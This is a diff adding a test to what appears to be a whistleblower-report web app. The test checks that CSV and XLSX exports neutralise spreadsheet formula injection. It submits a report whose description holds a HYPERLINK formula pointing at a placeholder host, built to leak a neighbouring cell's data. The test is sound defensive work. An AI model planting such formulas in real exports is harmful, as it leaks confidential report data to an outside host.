@@ -201,6 +201,24 @@ def test_list_filters_and_exports(wbs, submit, handler_client) -> None:
     assert handler_client.get(f"/wbs/{wbs.org.slug}/export.exe").status_code == 404
 
 
+def test_report_text_never_runs_in_an_export(wbs, submit, handler_client) -> None:
+    import io
+
+    from openpyxl import load_workbook
+
+    # A reporter may write a description meant to run in the handler's spreadsheet.
+    attack = '=HYPERLINK("https://contoh.invalid/?"&C2,"Bukti")'
+    submit(category="suap", description=attack + " suap perizinan di dinas.")
+    csv_body = b"".join(
+        handler_client.get(f"/wbs/{wbs.org.slug}/export.csv?content=1").streaming_content
+    ).decode()  # type: ignore[attr-defined]
+    assert "'=HYPERLINK" in csv_body and ',"=HYPERLINK' not in csv_body
+    xlsx = handler_client.get(f"/wbs/{wbs.org.slug}/export.xlsx?content=1")
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPER")]  # type: ignore[union-attr]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
 def test_case_pdf(wbs, submit, handler_client) -> None:
     report = submit().report
     response = handler_client.get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/pdf/")
